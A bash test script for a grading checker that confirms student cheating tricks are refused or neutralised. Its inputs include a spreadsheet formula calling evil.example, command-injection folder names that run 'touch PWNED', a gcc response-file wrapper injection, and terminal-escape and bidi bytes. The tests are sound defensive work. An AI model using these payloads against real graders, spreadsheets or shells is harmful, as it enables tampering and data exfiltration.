#!/usr/bin/env bash
# cheat_test.sh SCENARIO CHECKER SETCALC
#
# Students who try to earn marks they did not earn, or to spoil the grading of others,
# outside the sandbox itself: through the files they hand in and the names they give them.
#   links     a student's folder, executable or source that is a symbolic link (to another
#             student's work or to the collection's own program) is refused; a copy of the
#             collection's own program is refused too; a link the user names still runs
#   names     source names that gcc would read as options or response files are compiled
#             as sources; a name with control bytes is refused
#   sizes     huge or sparse sources and programs are refused quickly, the checker's memory
#             stays small, and the build cache keeps to its bound
#   memcheck  a program that removes the memory checker's log still fails with memory-error
#   sheet     a folder named as a spreadsheet formula is text in grades.csv
#   replay    the printed "to run it alone" line, pasted into bash, runs exactly that case
#             whatever the folder is named, and nothing else
#   feedback  names that would share a feedback file each get their own
#   visible   control, bidirectional and invalid bytes in names and compiler messages are
#             shown escaped in every output, and the class table keeps its columns
# Exit status 77 (skipped) where the kernel refuses the sandbox (or, for memcheck, where
# Valgrind is missing).
set -uo pipefail

scenario=$1 check=$2 setcalc=$3
work=$(mktemp -d "${TMPDIR:-/tmp}/cheat_test.XXXXXX")
trap 'chmod -R u+rwx "$work" 2>/dev/null; rm -rf "$work"' EXIT
mkdir "$work/tmp" "$work/cache"
export TMPDIR="$work/tmp" XDG_CACHE_HOME="$work/cache"
cd "$work" || exit 1
failures=0

fail() {
    echo "FAILED: $*" >&2
    failures=$((failures + 1))
}

# run [ARG...]: runs the checker, bounded; its output in $out, its diagnostics in $err, its
# exit status in $status.
run() {
    out=$(timeout -k 5 100 "$check" "$@" 2>"$work/.stderr")
    status=$?
    err=$(cat "$work/.stderr")
    if [[ $status == 2 && $err == *"cannot sandbox"* ]]; then
        echo "skipped: $err"
        exit 77
    fi
}

# expect STATUS TEXT...: the last run ended with STATUS and its output holds every TEXT.
expect() {
    local want=$1
    shift
    [[ $status == "$want" ]] || fail "status $status, expected $want: $out $err"
    for text in "$@"; do
        [[ "$out$err" == *"$text"* ]] || fail "no \"$text\" in: $out $err"
    done
}

# hello_case: the program "setcalc" has one case here, "hello": no input, "hi" and a line
# feed out. Its cases folder is $work/cases.
hello_case() {
    mkdir -p "$work/cases/setcalc/hello"
    echo exercise >"$work/cases/setcalc/hello/kind"
    printf 'hi\n' >"$work/cases/setcalc/hello/output"
}

# script FILE BODY: an executable shell script.
script() {
    printf '#!/bin/sh\n%s\n' "$2" >"$1"
    chmod +x "$1"
}

# row NAME: the row of grades.csv of the last grading whose first cell is NAME.
row() { grep -F -- "$1," "$work/class-report/grades.csv" | head -n 1; }

case $scenario in
links)
    hello_case
    cls="$work/class"
    mkdir -p "$cls"/{honest,linked,reference,copied,sources,honest_src} "$work/outside"
    script "$cls/honest/setcalc" 'echo hi'
    ln -s ../honest/setcalc "$cls/linked/setcalc"
    ln -s "$setcalc" "$cls/reference/setcalc"
    cp "$setcalc" "$cls/copied/setcalc"
    ln -s honest "$cls/alias"
    printf '#include <stdio.h>\nint main(void) { puts("hi"); return 0; }\n' >"$cls/honest_src/main.c"
    ln -s ../honest_src/main.c "$cls/sources/main.c"
    run --grade "$cls" --cases "$work/cases" setcalc
    expect 1 "refused"
    [[ $(row honest) == honest,1,1,* ]] || fail "the honest student lost marks: $(row honest)"
    [[ $(row honest_src) == honest_src,1,1,* ]] || fail "the honest sources lost marks: $(row honest_src)"
    for who in linked reference copied alias sources; do
        [[ $(row "$who") == "$who,0,1,0.0,refused,"* ]] || fail "$who was not refused: $(row "$who")"
    done
    feedback="$work/class-report/feedback"
    grep -q "setcalc is a symbolic link" "$feedback/linked.txt" || fail "no reason for linked"
    grep -q "the student's folder is a symbolic link" "$feedback/alias.txt" || fail "no reason for alias"
    grep -q "this is the collection's own setcalc, not a submission" "$feedback/copied.txt" ||
        fail "no reason for copied: $(cat "$feedback/copied.txt")"
    grep -q "main.c: a symbolic link" "$feedback/sources.txt" ||
        fail "no reason for sources: $(cat "$feedback/sources.txt")"
    # A single check of a link the user names runs what it leads to.
    ln -s "$cls/honest/setcalc" "$work/mine"
    run --cases "$work/cases" setcalc "$work/mine"
    expect 0 "hello ok"
    ;;

names)
    hello_case
    # Files named as options or response files: each table row is one submission.
    while IFS='|' read -r who file content said; do
        mkdir -p "$work/class/$who"
        printf '#include <stdio.h>\nint main(void) { puts("hi"); return 0; }\n' >"$work/class/$who/main.c"
        printf '%b' "$content" >"$work/class/$who/$(printf '%b' "$file")"
        echo "$who|$said" >>"$work/expected"
    done <<'EOT'
wrapper|@x.c|-wrapper /bin/echo,RESPONSE-FILE-READ\n|./@x.c
output|-o.c|int unused_o;\n|
dash|--help.c|int unused_help;\n|
control|ma\x1bin2.c|int x;\n|holds control bytes
EOT
    run --grade "$work/class" --cases "$work/cases" setcalc
    while IFS='|' read -r who said; do
        text=$(cat "$work/class-report/feedback/$who.txt")
        [[ $text != *cc1* && $text != *RESPONSE-FILE-READ\ * ]] ||
            fail "$who: a source was read as compiler options: $text"
        [[ -z $said || $text == *"$said"* ]] || fail "$who: no \"$said\" in: $text"
    done <"$work/expected"
    [[ $(row output) == output,1,1,* ]] || fail "-o.c was not compiled as a source: $(row output)"
    [[ $(row dash) == dash,1,1,* ]] || fail "--help.c was not compiled as a source: $(row dash)"
    [[ $(row wrapper) == *compile-error* ]] || fail "@x.c was not compiled as C: $(row wrapper)"
    [[ $(row control) == *refused* ]] || fail "a control byte in a source name: $(row control)"
    ;;

sizes)
    hello_case
    mkdir -p "$work/class"/{sparse,big,fine}
    printf '#include <stdio.h>\nint main(void) { puts("hi"); return 0; }\n' >"$work/class/sparse/main.c"
    for k in $(seq 1 20); do truncate -s 60M "$work/class/sparse/h$k.h"; done
    printf 'char big[250 << 20] = {1};\nint main(void) { return big[0] - 1; }\n' >"$work/class/big/main.c"
    printf '#include <stdio.h>\nint main(void) { puts("hi"); return 0; }\n' >"$work/class/fine/main.c"
    if [[ -x /usr/bin/time ]]; then
        start=$SECONDS
        /usr/bin/time -f '%M' -o "$work/rss" timeout -k 5 100 "$check" --grade "$work/class" \
            --cases "$work/cases" setcalc >"$work/out" 2>"$work/.stderr"
        status=$? out=$(cat "$work/out") err=$(cat "$work/.stderr")
        [[ $err == *"cannot sandbox"* ]] && exit 77
        rss=$(tail -n 1 "$work/rss")
        ((rss < 200000)) || fail "the checker held $rss KiB"
    else
        run --grade "$work/class" --cases "$work/cases" setcalc
    fi
    grep -q "h1.h is 60 MiB; sources may hold at most 1 MiB" "$work/class-report/feedback/sparse.txt" ||
        fail "no size refusal: $(cat "$work/class-report/feedback/sparse.txt")"
    grep -q "the program the compiler made is 250 MiB" "$work/class-report/feedback/big.txt" ||
        fail "the huge program was kept: $(cat "$work/class-report/feedback/big.txt")"
    [[ $(row fine) == fine,1,1,* ]] || fail "the fine build failed: $(row fine)"
    used=$(du -sk "$work/cache" | cut -f1)
    ((used < 4096)) || fail "the cache holds $used KiB after a refused huge build"
    # A cache of 1 MiB keeps to it over many builds; a cache of 0 keeps nothing.
    rm -rf "$work/class" "$work/class-report" "$work/cache"/*
    for k in $(seq 1 6); do
        mkdir -p "$work/class/s$k"
        printf '#include <stdio.h>\nstatic char pad[300000] = {%d};\nint main(void) { puts("hi"); return pad[1]; }\n' \
            "$k" >"$work/class/s$k/main.c"
    done
    run --grade "$work/class" --cache-size 1 -j 1 --cases "$work/cases" setcalc
    expect 0
    used=$(du -sk "$work/cache" | cut -f1)
    ((used <= 1024 + 64)) || fail "a cache of 1 MiB holds $used KiB"
    [[ $(grep -c ',1,1,' "$work/class-report/grades.csv") == 6 ]] || fail "a build was lost: $out"
    rm -rf "$work/cache"/* "$work/class-report"
    run --grade "$work/class" --cache-size 0 --cases "$work/cases" setcalc
    expect 0
    [[ -z $(ls -A "$work/cache/collection-check" 2>/dev/null) ]] || fail "--cache-size 0 kept builds"
    ;;

memcheck)
    if ! command -v valgrind >/dev/null; then
        echo "memcheck: valgrind is not installed"
        exit 77
    fi
    hello_case
    # The same invalid write, once leaving the log and once removing it.
    for how in keep remove; do
        cat >"$work/$how.c" <<EOC
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>
int main(void) {
    volatile int *row = malloc(4 * sizeof *row);
    row[4] = 1; /* past the row */
    free((void *)row);
    if ("$how"[0] == 'r') unlink(".collection-check-memcheck.log");
    puts("hi");
    return 0;
}
EOC
        run --memcheck --cases "$work/cases" setcalc "$work/$how.c"
        expect 1 "hello FAILED (memory-error)"
    done
    run --memcheck --cases "$work/cases" setcalc "$work/keep.c"
    expect 1 "Invalid write of size 4"
    ;;

sheet)
    hello_case
    name='=HYPERLINK("http://evil.example?"&A1,"Click for grade")'
    mkdir -p "$work/class/$name" "$work/class/+1" "$work/class/@x"
    for d in "$work/class"/*; do script "$d/setcalc" 'echo hi'; done
    run --grade "$work/class" --cases "$work/cases" setcalc
    expect 0
    csv="$work/class-report/grades.csv"
    if grep -qE '^"?[=+@-]' "$csv"; then fail "a cell begins as a formula: $(cat "$csv")"; fi
    grep -qF "\"'=HYPERLINK(" "$csv" || fail "the formula name is not shown as text: $(cat "$csv")"
    grep -q "^'+1,1,1," "$csv" || fail "the scores are not numbers: $(cat "$csv")"
    ;;

replay)
    hello_case
    names=("x';touch\${IFS}PWNED;'" "it's \"quoted\"" '$(touch PWNED)' '`touch PWNED`'
        $'new\nline' $'esc\e[31m' $'bad\xff\xfe' '-dash' 'back\slash' '${IFS}' $'\u202eevil')
    # The replay names the student's files relative to their folder: a folder nested in
    # it, whose name the student chose, is a word of the line.
    for k in "${!names[@]}"; do
        mkdir -p "$work/class/s$k/${names[$k]}"
        script "$work/class/s$k/${names[$k]}/setcalc" 'echo wrong'
    done
    run --grade "$work/class" --cases "$work/cases" setcalc
    expect 0
    # Each line run with collection-check replaced by a function printing its arguments.
    found=0
    for f in "$work/class-report/feedback"/*.txt; do
        line=$(grep '^  to run it alone: ' "$f") || {
            fail "no replay line in $f"
            continue
        }
        line=${line#  to run it alone: }
        (cd "$work/tmp" && bash -c "collection-check() { printf '%s\\0' \"\$@\"; }; $line") >"$work/argv"
        mapfile -d '' -t argv <"$work/argv"
        last=${argv[${#argv[@]} - 1]}
        want=("--cases" "CASES" "--case" "hello")
        [[ $last == -* ]] && want+=("--") # a path that begins with '-' stays a path
        want+=("setcalc" "$last")
        [[ ${argv[*]} == "${want[*]}" ]] || fail "the replay runs: ${argv[*]}"
        for n in "${names[@]}"; do
            [[ $last == "$n/setcalc" || $last == "./$n/setcalc" ]] && found=$((found + 1))
        done
    done
    ((found == ${#names[@]})) || fail "$found of ${#names[@]} replay lines name their folder"
    [[ ! -e $work/tmp/PWNED && ! -e $work/PWNED ]] || fail "a replay line ran a command of its own"
    ;;

feedback)
    hello_case
    # Each row: names whose plain forms are one file; the first passes, the others fail.
    while IFS= read -r names; do
        rm -rf "$work/class" "$work/class-report"
        first=1
        while IFS= read -r -d '|' n; do
            n=$(printf '%b' "$n")
            mkdir -p "$work/class/$n"
            if ((first)); then script "$work/class/$n/setcalc" 'echo hi'; else script "$work/class/$n/setcalc" 'echo no'; fi
            first=0
        done <<<"$names|"
        count=$(find "$work/class" -mindepth 1 -maxdepth 1 | wc -l)
        run --grade "$work/class" --cases "$work/cases" setcalc
        files=$(find "$work/class-report/feedback" -type f | wc -l)
        [[ $files == "$count" ]] || fail "$names: $count students, $files feedback files"
        [[ $(grep -l '^score: 1 of 1' "$work/class-report/feedback"/* | wc -l) == 1 ]] ||
            fail "$names: the passing feedback was overwritten"
    done <<'EOT'
kim_lee|kim\x7flee
kim\x01lee|kim\x02lee|kim_lee|kim\x1blee
a b|a\x7fb|a_b
EOT
    ;;

visible)
    hello_case
    long=$(printf '\xff%.0s' $(seq 1 200))
    mkdir -p "$work/class"/{$'rlo\u202e0/1',"$long",$'esc\e[2Jx',plain,c1msg}
    for d in "$work/class"/*; do script "$d/setcalc" 'echo hi'; done
    rm "$work/class/c1msg/setcalc"
    printf '#include <stdio.h>\n#warning "c1 \xc2\x9b31m bidi \xe2\x81\xa6 esc \x1b[2J"\nint main(void) { puts("hi"); return 0; }\n' >"$work/class/c1msg/main.c"
    run --grade "$work/class" --cases "$work/cases" setcalc
    expect 0
    report="$work/class-report"
    for f in "$report"/grades.csv "$report"/results.jsonl "$report"/report.html "$report"/feedback/*; do
        if LC_ALL=C grep -qP '[\x00-\x08\x0b-\x0c\x0e-\x1f\x7f]|\xc2[\x80-\x9f]|\xe2\x80[\xaa-\xae\x8e\x8f]|\xe2\x81[\xa6-\xa9]' "$f"; then
            fail "$f holds a raw control byte"
        fi
        iconv -f UTF-8 -t UTF-8 "$f" >/dev/null 2>&1 || fail "$f is not well-formed UTF-8"
    done
    if LC_ALL=C grep -qP '[\x00-\x08\x0b-\x1f\x7f]|\xc2[\x80-\x9f]|\xe2\x80[\xaa-\xae]|\xff' <<<"$out"; then
        fail "the class table holds a raw control byte: $out"
    fi
    grep -q 'c1 \\u009b31m bidi \\u2066 esc \\x1b\[2J' "$report/feedback/c1msg.txt" ||
        fail "the compiler's message is not shown escaped: $(cat "$report/feedback/c1msg.txt")"
    # Every row of the table as wide as its header up to the build's word, the long name cut.
    header=$(head -n 1 <<<"$out")
    width=$(wc -m <<<"${header% *}")
    while IFS= read -r line; do
        [[ $line == *"submissions graded into"* ]] && continue
        [[ $(wc -m <<<"${line% *}") == "$width" ]] || fail "a row breaks the table: $line"
    done <<<"$out"
    [[ $out == *$'\u2026'* ]] || fail "the long name was not cut: $out"
    ;;

*)
    echo "unknown scenario $scenario" >&2
    exit 2
    ;;
esac

((failures == 0)) || exit 1
echo "cheat $scenario: all held"
